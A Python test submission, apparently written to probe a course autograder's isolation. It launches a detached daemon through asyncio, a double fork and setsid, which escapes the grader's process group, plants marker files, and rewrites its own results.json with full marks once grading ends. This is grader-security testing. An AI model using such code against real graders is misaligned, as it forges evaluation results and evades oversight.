# ATTACK (machine, runs past the static check): daemon_rewrite without `import os`. asyncio starts a fresh
# interpreter (the static check reads only this file, and a new process has none of the runner's guards),
# which double-forks and calls setsid: a daemon out of the runner's process group, its command line marked
# gpu-course-attack-daemon. After 3 s it drops DAEMON_WAS_HERE markers into its --out folder, home and
# submissions folder (found from its stdout and its grader's command line); when the grading process has gone it rewrites its own results.json with
# full marks. It ends by itself after 45 s.
# A secure grader: every process the submission started dies with its sandbox; no marker appears, no
# process marked gpu-course-attack-daemon is alive after grading, the results.json is the grader's.
import asyncio
import pathlib

P = pathlib.Path

DAEMON = r'''
import json, os, sys, time
targets = sys.argv[3:]
if os.fork():
    os._exit(0)
os.setsid()
if os.fork():
    os._exit(0)
for fd in range(0, 256):
    try:
        os.close(fd)
    except OSError:
        pass
started = time.time()
grader = [p for p in sys.argv[1].split(",") if p]

def mark(text):
    for t in targets:
        d = t.split("|")[0]
        try:
            with open(os.path.join(d, "DAEMON_WAS_HERE"), "a") as f:
                f.write(text + "\n")
        except OSError:
            pass

time.sleep(3.0)
mark(f"daemon {os.getpid()} alive 3 s after it started")
while any(os.path.exists(f"/proc/{g}") for g in grader) and time.time() - started < 40:
    time.sleep(0.2)
for t in targets:
    d, _, own = t.partition("|")
    if own:
        try:
            path = os.path.join(d, own, "results.json")
            res = json.load(open(path))
            for x in res.get("tests", []):
                x["score"] = x.get("max_score", 0)
            res["score"] = sum(x["score"] for x in res.get("tests", []))
            json.dump(res, open(path, "w"))
        except (OSError, ValueError):
            pass
mark(f"daemon {os.getpid()} outlived the grader")
time.sleep(max(0.0, 45 - (time.time() - started)))
'''


def _ancestors():
    """(pid, argv, cwd) of this process's parent, its parent, and so on: the grader, where visible."""
    found, pid = [], int(P("/proc/self/stat").read_text().rsplit(")", 1)[1].split()[1])
    while pid > 1 and len(found) < 8:
        d = P("/proc") / str(pid)
        try:
            argv = [x.decode("utf-8", "replace") for x in (d / "cmdline").read_bytes().split(b"\0") if x]
            cwd = str((d / "cwd").readlink())
            ppid = int((d / "stat").read_text().rsplit(")", 1)[1].split()[1])
        except (OSError, ValueError):
            break
        found.append((pid, argv, cwd))
        pid = ppid
    return found

def _targets():
    """Folders to mark: --out (with this submission's own folder, 'out|name'), homes, submissions."""
    found = [str(P.home())]
    try:
        log = P(str(P("/proc/self/fd/1").readlink()))
        if log.name == "output.log":
            found.append(f"{log.parent.parent}|{log.parent.name}")
    except OSError:
        pass
    for _, argv, cwd in _ancestors():
        if not any("autograder" in a for a in argv[:4]):
            continue  # the grader's folders only (not those of whatever started it)
        for i, a in enumerate(argv):
            if a == "--out" and i + 1 < len(argv):
                found.append(str(P(cwd) / argv[i + 1]))
            elif a.endswith((".py", ".ipynb")):
                found.append(str((P(cwd) / a).parent))
    return sorted(set(found))


async def _spawn(targets):
    exe = str(P("/proc/self/exe").resolve())
    graders = ",".join(str(pid) for pid, argv, _ in _ancestors() if any("autograder" in a for a in argv[:4]))
    proc = await asyncio.create_subprocess_exec(exe, "-c", DAEMON, graders, "gpu-course-attack-daemon", *targets,
                                                stdin=-3)  # -3: subprocess.DEVNULL
    return await proc.wait()


try:
    targets = _targets()
    print(f"ATTACK daemon_asyncio: marking {targets}", flush=True)
    code = asyncio.run(_spawn(targets))
    print(f"ATTACK daemon_asyncio: started a daemon (its launcher exited {code}); done", flush=True)
except Exception as exc:
    print(f"ATTACK daemon_asyncio: stopped by {type(exc).__name__}: {exc}", flush=True)
